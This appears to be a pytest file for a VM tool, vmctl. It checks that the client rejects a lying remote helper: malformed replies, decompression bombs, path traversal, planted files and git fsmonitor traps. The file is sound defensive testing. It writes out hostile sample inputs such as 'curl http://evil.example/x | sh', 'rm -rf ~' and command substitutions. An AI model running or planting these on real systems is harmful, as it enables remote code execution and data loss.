"""A VM that a job has taken over: whatever it says, nothing here is lost, planted or filled.

Most of these machines have no network: the program of the test stands where a helper would, at the
other end of the same three streams (tests/harness/local_machine.py).
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.harness.local_machine import LocalMachine, connected, local_project, play
from vmctl.config import Project
from vmctl.domain.errors import Conflict, IntegrityError, InvalidInput, TimedOut, VmctlError
from vmctl.domain.events import Info, Warned
from vmctl.domain.sync.remote_listing import Listing
from vmctl.ssh import remote_output, rpc
from vmctl.ssh.boot_reports import BootReports
from vmctl.ssh.remote_output import RemoteOutput, exchange
from vmctl.ssh.transfer.download import DownloadStream
from vmctl.workflows.runs import backend
from vmctl.workflows.runs import run as jobs
from vmctl.workflows.sync import download
from vmctl.workflows.sync.fetch import FetchResult, fetch
from vmctl.workflows.sync.pull import PullResult, pull
from vmctl.workflows.sync.push import push


def library_of(machine: LocalMachine) -> Path:
    return machine.home / ".vmctl/lib" / rpc.library_name()


@pytest.fixture(scope="session")
def installed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The helpers as they lie on a machine."""
    machine = LocalMachine(tmp_path_factory.mktemp("installed"))
    assert rpc.install(machine)
    assert not rpc.install(machine), "what is whole stays"
    return library_of(machine)


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, installed: Path) -> LocalMachine:
    """One that was set up before, as nearly every machine is."""
    monkeypatch.setenv("VMCTL_HOME", str(tmp_path / "vmctl"))
    made = LocalMachine(tmp_path / "machine")
    shutil.copytree(installed, library_of(made))
    connected(monkeypatch, made)
    return made


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    made = local_project(tmp_path / "project")
    monkeypatch.chdir(made.root)
    return made


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


def settle(place: Path, text: str) -> None:
    """A file of the machine's that was written a while ago."""
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)
    os.utime(place, (1_700_000_000, 1_700_000_000))


def files_of(root: Path) -> dict[str, str]:
    found = (path for path in sorted(root.rglob("*")) if path.is_file() or path.is_symlink())
    return {
        str(path.relative_to(root)): str(path.readlink()) if path.is_symlink() else path.read_text()
        for path in found
    }


def item(name: str, entries: list[list[Any]] | None = None, **more: Any) -> dict[str, Any]:
    """One path of a listing: a file of four bytes, or a folder with these entries."""
    kind = "file" if entries is None else "dir"
    files = [["file", "", 4, 1, 0o644, ""]] if entries is None else entries
    told = {"wanted": name, "base": name, "inside": name, "path": f"/{name}", "kind": kind}
    return {**told, "files": files, **more}


def listing(*items: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"found": list(items), "missing": [], "run": None, "going": False, **more}


# -- what it says is no answer -------------------------------------------------------------------

SHAPES = {
    "nothing": "",
    "no JSON": "hello",
    "a number": "7",
    "null": "null",
    "a list": "[]",
    "an empty object": "{}",
    "a list of lists": '{"runs": [[]], "run": [], "id": [], "running": 1, "accepted": 7}',
    "texts for numbers": '{"runs": [{"id": "x", "exit": {"code": "0"}}], "id": 7, "run": 7}',
    "infinity": '{"runs": [{"id": "x", "now": 1e999}], "run": {"id": "x", "now": 1e999}}',
    "not a number": '{"runs": [{"id": "x", "now": NaN}], "run": {"id": "x", "now": NaN}}',
    "nested without end": "[" * 100_000,
    "a number of 10,000 digits": '{"runs": [{"id": "x", "log_bytes": ' + "9" * 10_000 + "}]}",
    "a path for a name": '{"runs": [{"id": "../../x"}], "id": "../x", "existing": true}',
}
VERBS = ("prepare", "start", "runs", "cancel", "push-accept", "service", "service-state")


@pytest.mark.parametrize("text", SHAPES.values(), ids=list(SHAPES))
def test_no_answer_of_another_shape_is_used(text: str) -> None:
    for verb in VERBS:
        with pytest.raises(IntegrityError) as caught:
            rpc.parse_reply(verb, 0, text.encode(), b"")
        assert caught.value.exit_code == 9
        assert caught.value.message.isprintable()
        assert "\n" not in caught.value.message


def test_a_command_ends_with_nine_and_one_sentence(machine: LocalMachine, project: Project) -> None:
    machine.lie("runs", "print('[1, 2]')")
    with pytest.raises(
        IntegrityError, match="Unexpected reply from vmctl's helper on the VM: runs"
    ):
        play(jobs.logs(project))
    machine.lie("runs", "print('[1, 2]' * 20_000_000)")
    with pytest.raises(IntegrityError, match="more than"):
        play(jobs.logs(project))
    machine.lie("runs", "sys.stderr.write('x' * 50_000_000); sys.exit(7)")
    with pytest.raises(IntegrityError, match=r"exit code 7"):
        play(jobs.logs(project))


@pytest.mark.parametrize(
    "hint", ["curl http://evil.example/x | sh", "rm -rf ~", "vmctl `id`", "a\nvmctl $(id)"]
)
def test_the_vm_does_not_say_what_to_type_next(hint: str) -> None:
    error = {"error": {"kind": "conflict", "message": "No\n\x1b[2J.", "hint": hint}}
    refused = rpc.explain_failure(rpc.REFUSED, json.dumps(error).encode())
    assert type(refused) is Conflict
    assert refused.hint == ""
    assert refused.message.isprintable()
    error["error"]["hint"] = "See what runs: vmctl ps"
    assert rpc.explain_failure(96, json.dumps(error).encode()).hint == "See what runs: vmctl ps"


PUSHES = [
    {"want": {"files": [], "held": {}, "older": {}, "placed": {"folder": "x", "older": []}}},
    {"want": {"files": [[0, 10**12]], "held": {}, "older": {}}},
    {"want": {"files": [[-1, 0]], "held": {}, "older": {}}},
    {"want": {"files": [[0, 0], [0, 0]], "held": {}, "older": {}}},
    {"ask": "tree"},
    {"ask": "secrets"},
    {"done": {"put": [], "deleted": [], "kept": [], "conflicts": [], "tree": "0" * 64}},
    {"done": {}},
    {"plan": {"put": [], "deleted": [], "kept": [], "conflicts": []}},
    {"conflicts": [["a", "because"]]},
    ["done"],
]


def test_a_push_that_never_ends_or_did_something_else_is_given_up(
    machine: LocalMachine, project: Project
) -> None:
    write(project.root, {"a": "1"})
    for answer in PUSHES:
        machine.lie("push", f"while True: say({answer!r})")
        with pytest.raises(IntegrityError) as caught:
            play(push(project))
        assert caught.value.exit_code == 9, answer
    machine.lies.clear()
    assert play(push(project)).moved_files == 1, "nothing of it is remembered"


# -- it says too much, or nothing ----------------------------------------------------------------


@pytest.fixture
def memory() -> Iterator[None]:
    """At most 200 MB more than before."""
    tracemalloc.start()
    yield
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 200e6, f"{peak / 1e6:.0f} MB"


LONG = {
    "twenty million empty lists": "zlib.compress(b'[' + b'[],' * 20_000_000 + b'[]]', 1)",
    "a bomb": "b''.join(map(zlib.compressobj(9).compress, [bytes(1<<24)] * 20))",
    "a long name": "zlib.compress(json.dumps({'found': [], 'missing': ['x' * 10**7]}).encode())",
    "nested without end": "zlib.compress(b'[' * 10_000_000)",
    "many items": "zlib.compress(json.dumps({'found': [{}] * 10**6, 'missing': []}).encode())",
}


@pytest.mark.parametrize("program", LONG.values(), ids=list(LONG))
@pytest.mark.usefixtures("memory")
def test_a_listing_without_end_fills_nothing(machine: LocalMachine, program: str) -> None:
    machine.lie("fetch", f"data = {program}\nsay({{'listing': len(data)}}); raw(data)")
    with DownloadStream(machine, "fetch", {"ask": False}) as stream, pytest.raises(IntegrityError):
        Listing.parse(play(stream.listing(waits=False)))


@pytest.mark.usefixtures("memory")
def test_a_line_without_end_is_given_up(machine: LocalMachine) -> None:
    machine.lie("fetch", "while True: raw(b'x' * 100_000)")
    with DownloadStream(machine, "fetch", {"ask": False}) as stream, pytest.raises(IntegrityError):
        play(stream.listing(waits=False))


def test_a_silent_machine_is_given_up(
    machine: LocalMachine, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(remote_output, "SILENCE_S", 0.2)
    write(project.root, {"a": "1"})
    stories = {"fetch": lambda: fetch(project, ["x"]), "push": lambda: push(project)}
    for verb, story in stories.items():
        machine.lie(verb, "time.sleep(60)")
        with pytest.raises(TimedOut, match="sent nothing for") as caught:
            play(story())
        assert caught.value.exit_code == 8


def test_a_machine_that_takes_nothing_in_is_given_up(
    machine: LocalMachine, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(remote_output, "SILENCE_S", 0.2)
    (project.root / "big").write_bytes(os.urandom(2_000_000))
    machine.lie("push", "time.sleep(60)")
    with pytest.raises(TimedOut):
        play(push(project))


def test_who_only_says_that_he_is_at_work_is_given_up(machine: LocalMachine) -> None:
    machine.lie("fetch", "while True: raw(b'\\n'); time.sleep(0.01)")
    process = rpc.stream(machine, "fetch", {})
    assert process.stdout is not None
    with pytest.raises(TimedOut, match="does not finish"):
        RemoteOutput(process.stdout.fileno(), marked=True).line(100, limit_s=0.2)
    process.kill()
    process.communicate()


def test_waiting_ends_where_nobody_asked_for_it_and_in_a_week(
    machine: LocalMachine, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    machine.lie("fetch", "while True: say({'waiting': str(time.time())}); time.sleep(0.01)")
    with pytest.raises(IntegrityError, match="not asked to"):
        play(fetch(project, ["x"]))
    monkeypatch.setattr(download, "WAIT_LIMIT_S", 0.2)
    with pytest.raises(TimedOut):
        play(fetch(project, ["x"], wait=True))


def test_a_run_that_goes_on_without_a_log_is_given_up(
    machine: LocalMachine, project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(backend, "SESSION_LIMIT_S", 0.2)
    monkeypatch.setattr(backend, "SESSION_GAP_S", 0.01)
    facts = {"id": "train-1", "session": True, "phase": {"phase": "running"}}
    machine.lie("runs", f"say({{'runs': [{facts!r}]}})")
    machine.lie("follow", f"sys.stderr.write(json.dumps({{'run': {facts!r}}}))")
    with pytest.raises(TimedOut, match="as running"):
        play(jobs.logs(project, follow=True))


@pytest.mark.usefixtures("memory")
def test_reports_without_end_are_not_kept(machine: LocalMachine) -> None:
    report = {"starting": True, "log": ["x" * 1000] * 50}
    lines = f"print({json.dumps(report)!r} + chr(10), end='')"
    machine.lies = {'{"gpus": 1}\'': f"for _ in range(300): {lines}\nprint('{{\"starting\": 7}}')"}
    watching = BootReports(machine, {"gpus": 1})
    deadline = time.monotonic() + 30
    with pytest.raises(IntegrityError) as caught:
        while time.monotonic() < deadline:
            watching.next_report()
    assert caught.value.exit_code == 9
    watching.close()


@pytest.mark.usefixtures("memory")
def test_an_answer_and_errors_without_end_are_cut() -> None:
    words = ["sh", "-c", "yes x >&2 & exec yes y"]
    pipe = subprocess.PIPE
    with subprocess.Popen(
        words, stdin=pipe, stdout=pipe, stderr=pipe, start_new_session=True
    ) as process:
        with pytest.raises(IntegrityError):
            exchange(process, b"", 60.0)
        os.killpg(process.pid, 9)


# -- names, sizes and modes of what is fetched ---------------------------------------------------


def fetched(project: Project, *paths: str, **options: Any) -> tuple[FetchResult, list[str]]:
    warned: list[str] = []
    result: FetchResult = play(
        fetch(project, paths, **options),
        lambda event: warned.append(event.text) if isinstance(event, Warned) else None,
    )
    return result, warned


def test_more_than_was_listed_is_not_taken(machine: LocalMachine, project: Project) -> None:
    told = listing(item("x"))
    machine.lie(
        "fetch",
        f"""
        lists({told!r})
        wants()
        say({{"number": 0, "offset": 0, "bytes": 10**15}})
        while True: raw(bytes(1 << 20))
    """,
    )
    with pytest.raises(IntegrityError, match="listed x with 4 bytes"):
        fetched(project, "x")
    assert files_of(project.root) == {}


def test_what_cannot_fit_is_said_before_it_comes(machine: LocalMachine, project: Project) -> None:
    told = listing(item("x", None, files=[["file", "", 10**15, 1, 0o644, ""]]))
    machine.lie("fetch", f"lists({told!r}); wants()\nwhile True: raw(bytes(1 << 20))")
    for here in ({}, {"x": "an earlier one"}):  # unasked, and asked for
        write(project.root, here)
        with pytest.raises(InvalidInput, match="disk is full"):
            fetched(project, "x")
    assert files_of(project.root) == {"x": "an earlier one"}


def test_no_folder_of_git_comes_with_what_was_asked_for(
    machine: LocalMachine, project: Project
) -> None:
    """The real helper, and a job that has left traps in its outputs."""
    there = machine.home / "Workspace/demo/runs"
    trap = "[core]\n fsmonitor = touch /tmp/owned\n"
    for place in (".git/config", "deep/.GIT/config", "bare/config", "ok/.gitignore", "ok/curve"):
        settle(there / place, trap)
    for place in ("bare/HEAD", "bare/objects/x", "bare/refs/x"):
        settle(there / place, "ref: refs/heads/main")
    result, warned = fetched(project, "runs")
    assert set(files_of(project.root)) == {
        "runs/ok/.gitignore", "runs/ok/curve", "runs/bare/config", "runs/bare/objects/x",
        "runs/bare/refs/x",
    }  # fmt: skip
    assert len(result.files) == 5
    (line,) = [text for text in warned if "git would use" in text]
    assert {"runs/.git", "runs/deep/.GIT", "runs/bare/HEAD"} <= set(
        line.partition(": ")[2].replace(" and", ",").split(", ")
    )
    for asked in (".git", "runs/.git", "runs/.git/config"):
        settle(machine.home / "Workspace/demo/.git/config", trap)
        with pytest.raises((IntegrityError, VmctlError)):
            fetched(project, asked, to=project.root / "elsewhere", parents=True)
    assert not (project.root / "elsewhere").exists() or not files_of(project.root / "elsewhere")


def test_the_whole_project_is_saved_under_its_own_name(
    machine: LocalMachine, project: Project
) -> None:
    write(project.root, {"src/train.py": "mine"})
    told = listing(item("src", [["file", "train.py", 4, 1, 0o644, ""]], wanted="."))
    machine.lie("fetch", f"lists({told!r})\nfor n, *_ in wants(): sends(n, b'evil')\n"
                "say({'end': True})")  # fmt: skip
    fetched(project, ".")
    assert files_of(project.root) == {"src/train.py": "mine", "demo/train.py": "evil"}
    machine.lies.clear()
    settle(machine.home / "Workspace/demo/src/a", "there")
    fetched(project, ".")
    assert files_of(project.root)["demo/src/a"] == "there"


CHOSEN: list[dict[str, Any]] = [
    {"wanted": "y"},
    {"base": "vmctl.toml", "inside": "vmctl.toml"},
    {"inside": ".vscode/x"},
    {"base": "x\ud800"},
    {"inside": "/".join("d" * 3000)},
    {"inside": "x" * 5000},
    {"files": [["file", "", 4.0, 1, 420, ""]]},
    {"files": [["file", "", True, 1, 420, ""]]},
    {"files": [["file", "", 4, 1, 420, "\0"]]},
]


def test_no_name_and_no_number_is_the_vms_to_choose(
    machine: LocalMachine, project: Project
) -> None:
    for changed in CHOSEN:
        told = listing(item("x", None, **changed))
        machine.lie("fetch", f"lists({told!r}); wants(); sends(0, b'evil'); say({{'end': True}})")
        with pytest.raises(IntegrityError):
            fetched(project, "x", parents=True)
        assert files_of(project.root) == {}, changed


def test_three_thousand_folders_in_one_another_are_refused_with_words(
    machine: LocalMachine, project: Project
) -> None:
    deep = "/".join("d" * 2000)
    told = listing(item("x", [["dir", deep[: 2 * n - 1], 0, 1, 0o755, ""] for n in range(1, 2001)]))
    machine.lie("fetch", f"lists({told!r}); wants(); say({{'end': True}})")
    with pytest.raises(IntegrityError, match="more than 128"):
        fetched(project, "x")
    assert not list(project.root.iterdir())


def test_files_have_the_modes_that_this_user_gives(machine: LocalMachine, project: Project) -> None:
    entries = [["file", name, 4, 1, 0o7777, ""] for name in "abc"]
    told = listing(item("x", [["dir", "d", 0, 1, 0o7777, ""], *entries]))
    machine.lie(
        "fetch",
        f"""
        lists({told!r})
        wants()
        for number, mode in enumerate((0o7777, 0o6755, 0)): sends(number, b"evil", mode=mode)
        say({{"end": True}})
    """,
    )
    before = os.umask(0o027)
    try:
        fetched(project, "x")
    finally:
        os.umask(before)
    modes = {
        path.name: stat.S_IMODE(path.stat().st_mode) for path in (project.root / "x").iterdir()
    }
    assert modes == {"a": 0o750, "b": 0o750, "c": 0o400, "d": 0o750}


# -- what a pull believes ------------------------------------------------------------------------


@pytest.fixture
def pushed(machine: LocalMachine, project: Project) -> Project:
    """A project whose push is on record, and a machine that has it."""
    write(project.root, {"train.py": "one", "notes/a.ipynb": "two", ".vscode/tasks.json": "{}"})
    play(push(project))
    return project


def lying_pull(machine: LocalMachine, files: dict[str, bytes], **more: Any) -> None:
    """A helper that names these files as pushed and changed, and sends them."""
    items = [
        item(path.rpartition("/")[2], None, wanted=path, inside=path,
             files=[["file", "", len(data), 1, 0o644, ""]])
        for path, data in files.items()
    ]  # fmt: skip
    import hashlib

    told = listing(
        *items,
        sums={path: hashlib.sha256(data).hexdigest() for path, data in files.items()},
        # what an earlier vmctl believed: that this was pushed as it is here now
        before=dict.fromkeys(files),
        **{"deleted": [], "same": [], "made": [], **more},
    )
    machine.lie(
        "pull",
        f"""
        lists({told!r})
        data = {list(files.values())!r}
        for number, *_ in wants(): sends(number, data[number])
        say({{"end": True}})
    """,
    )


def pulled(project: Project, *paths: str, **options: Any) -> tuple[PullResult, list[str]]:
    told: list[str] = []
    result: PullResult = play(
        pull(project, paths, **options),
        lambda event: told.append(event.text) if isinstance(event, (Info, Warned)) else None,
    )
    return result, told


def test_a_lying_pull_overwrites_no_local_change(machine: LocalMachine, pushed: Project) -> None:
    write(pushed.root, {"train.py": "changed here"})
    lying_pull(machine, {"train.py": b"evil", "notes/a.ipynb": b"edited there"})
    result, _ = pulled(pushed)
    assert [(one.path, one.why) for one in result.conflicts] == [
        ("train.py", "was changed here as well")
    ]
    assert files_of(pushed.root)["train.py"] == "changed here"
    assert files_of(pushed.root)["notes/a.ipynb"] == "edited there", "what is as pushed comes"


PLANTED = {
    ".vscode/tasks.json": b"evil",  # pushed, but obeyed
    ".ssh/authorized_keys": b"evil",
    ".envrc": b"evil",
    "sitecustomize.py": b"evil",
    "lib/x.pth": b"evil",
    "notes/.bashrc": b"evil",
    "hooks/pre-commit": b"evil",
    "Makefile": b"evil",
    "src/new.py": b"evil",
}


def test_a_lying_pull_plants_nothing(machine: LocalMachine, pushed: Project) -> None:
    before = files_of(pushed.root)
    lying_pull(machine, PLANTED, deleted=["never/pushed"])
    for asked in ((), (".",), ("notes",)):
        for force in (False, True):
            result, _ = pulled(pushed, *asked, force=force)
            assert files_of(pushed.root) == before, (asked, force)
            assert {one.path for one in result.conflicts} >= set(PLANTED), (asked, force)
            assert result.files == (), (asked, force)


def test_a_lying_pull_reaches_no_git_and_deletes_nothing_that_was_not_pushed(
    machine: LocalMachine, pushed: Project
) -> None:
    write(pushed.root, {"mine.txt": "never pushed"})
    before = files_of(pushed.root)
    for name in (".git/hooks/x", "a/.GIT/config", "git~1/config", ".g\u200cit/config"):
        lying_pull(machine, {name: b"evil"})
        with pytest.raises(IntegrityError):
            pulled(pushed, force=True)
    lying_pull(machine, {}, deleted=["mine.txt"])
    pulled(pushed, force=True)
    assert files_of(pushed.root) == before


def test_without_a_record_a_pull_only_says_what_differs(
    machine: LocalMachine, pushed: Project, tmp_path: Path
) -> None:
    """Another computer, or a cache that was deleted."""
    shutil.rmtree(tmp_path / "vmctl")
    write(pushed.root, {"notes/a.ipynb": "changed here"})
    settle(machine.home / "Workspace/demo/train.py", "edited there")
    settle(machine.home / "Workspace/demo/notes/a.ipynb", "edited there")
    result, told = pulled(pushed, force=True)
    assert {one.path for one in result.conflicts} == {"train.py", "notes/a.ipynb"}
    assert any("No push from this folder is on record" in line for line in told)
    assert files_of(pushed.root)["train.py"] == "one"
    result, _ = pulled(pushed, "train.py", force=True)
    assert [one.path for one in result.files] == ["train.py"]
    assert files_of(pushed.root)["train.py"] == "edited there"
    # and that is on record now
    settle(machine.home / "Workspace/demo/train.py", "edited once more")
    pulled(pushed)
    assert files_of(pushed.root)["train.py"] == "edited once more"


def test_a_notebook_made_on_the_machine_is_listed_and_comes_by_its_name(
    machine: LocalMachine, pushed: Project
) -> None:
    for name in ("notes/b.ipynb", "unet.pth", "notes/.hidden"):
        settle(machine.home / "Workspace/demo" / name, "made there")
    result, told = pulled(pushed)
    assert (result.files, result.conflicts) == ((), ())
    assert result.new == ("unet.pth", "notes/.hidden", "notes/b.ipynb")
    assert any("New on the VM, not pulled: unet.pth" in line for line in told)
    result, _ = pulled(pushed, "notes")
    assert [one.path for one in result.files] == ["notes/b.ipynb"]
    assert [one.path for one in result.conflicts] == ["notes/.hidden"]
    pulled(pushed, "notes/.hidden", "unet.pth")
    assert files_of(pushed.root)["unet.pth"] == "made there"
    assert files_of(pushed.root)["notes/.hidden"] == "made there"
    assert play(push(pushed)).moved_files == 0


# -- its disk is full, or was --------------------------------------------------------------------


MORE = pytest.mark.exhaustive  # each verb, source and compiled code are looked at without


def cut(path: Path) -> None:
    """Half of a file, or a little less: never a half that is a whole program by chance."""
    half = path.read_bytes()[: path.stat().st_size // 2]
    while path.suffix == ".py" and _is_whole(half):
        half = half[:-1]
    path.write_bytes(half)


def _is_whole(source: bytes) -> bool:
    try:
        compile(source, "half", "exec")
    except SyntaxError:
        return False
    return True


@pytest.mark.parametrize(
    ("verb", "broken"),
    [
        ("runs", "__main__.py"),
        ("fetch", "vmctl_guest/files/sender.py"),
        ("push", "vmctl_guest/__pycache__/main.*"),
        ("start", "vmctl_guest/runs/runner.py"),
        pytest.param("runs", "vmctl_guest/main.py", marks=MORE),
        pytest.param("push", "vmctl_guest/sync/receiver.py", marks=MORE),
        pytest.param("runs", "__pycache__/__main__*", marks=MORE),
        pytest.param("runs", "vmctl_guest/runs/__pycache__/runs.*", marks=MORE),
        pytest.param("fetch", "vmctl_guest/files/__pycache__/sender.*", marks=MORE),
    ],
)
def test_a_helper_that_was_cut_short_is_installed_again_by_the_next_command(
    machine: LocalMachine, project: Project, verb: str, broken: str
) -> None:
    write(project.root, {"a": "1"})
    (path,) = library_of(machine).glob(broken)
    cut(path)
    settle(machine.home / "Workspace/demo/x", "there")
    if verb == "runs":
        assert rpc.call(machine, "runs", {"project": "demo"}) == {"runs": []}
    elif verb == "start":
        asked = {"project": "demo", "job": "train", "directory": ""}
        assert "unprepared" in rpc.call(machine, "start", asked)
    elif verb == "fetch":
        fetched(project, "x")
        assert files_of(project.root)["x"] == "there"
    else:
        assert play(push(project)).moved_files == 1
    assert not rpc.install(machine)
    assert not list(library_of(machine).parent.glob(".part*"))


def test_an_empty_helper_and_a_file_in_its_place_are_replaced(machine: LocalMachine) -> None:
    (library_of(machine) / "__main__.py").write_bytes(b"")
    assert rpc.call(machine, "runs", {"project": "demo"}) == {"runs": []}
    shutil.rmtree(library_of(machine))
    library_of(machine).write_text("no folder")
    assert rpc.call(machine, "runs", {"project": "demo"}) == {"runs": []}


def test_nothing_is_written_beside_the_helpers_code(
    machine: LocalMachine, project: Project
) -> None:
    before = {path: path.stat().st_mtime_ns for path in library_of(machine).rglob("*")}
    assert any(path.suffix == ".pyc" for path in before), "compiled when they were installed"
    for path in before:
        if path.suffix == ".pyc":
            path.unlink()
    write(project.root, {"a": "1"})
    play(push(project))
    fetched(project, "a", to=project.root / "to")
    pulled(project)
    after = {path: path.stat().st_mtime_ns for path in library_of(machine).rglob("*.py*")}
    assert set(after) == {path for path in before if path.suffix == ".py"}


FULL = """
mount -t tmpfs -o size=2m tmpfs "$HOME" || exit 77
head -c "$3" /dev/zero >"$HOME/filler"
sh -c "$1" <"$2" && exit 76
find "$HOME" -type f ! -name filler
rm "$HOME/filler"
exec sh -c "$1" <"$2"
"""


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs a disk of its own")
@pytest.mark.parametrize("filler", [2_097_152, 1_900_000])
def test_a_full_disk_leaves_no_half_helper(tmp_path: Path, filler: int) -> None:
    archive = tmp_path / "archive"
    archive.write_bytes(rpc.library()[1])
    home = tmp_path / "home"
    home.mkdir()
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", FULL, "sh",
         rpc.install_line(), str(archive), str(filler)],
        env={"HOME": str(home), "PATH": os.environ["PATH"]},
        capture_output=True,
        text=True,
        check=False,
    )  # fmt: skip
    if done.returncode == 77:
        pytest.skip("no mount namespaces for this user here")
    assert (done.returncode, done.stdout) == (0, "installed\n")
    told = rpc.explain_install_failure(done.stderr.encode())
    assert "vmctl exec df -h" in told.hint or "arrived incomplete" in told.message


def test_zlib_is_bounded_as_we_use_it() -> None:
    """What the bound on a listing rests on."""
    bomb = zlib.compress(bytes(50_000_000), 9)
    assert len(zlib.decompressobj().decompress(bomb, 1000)) == 1000
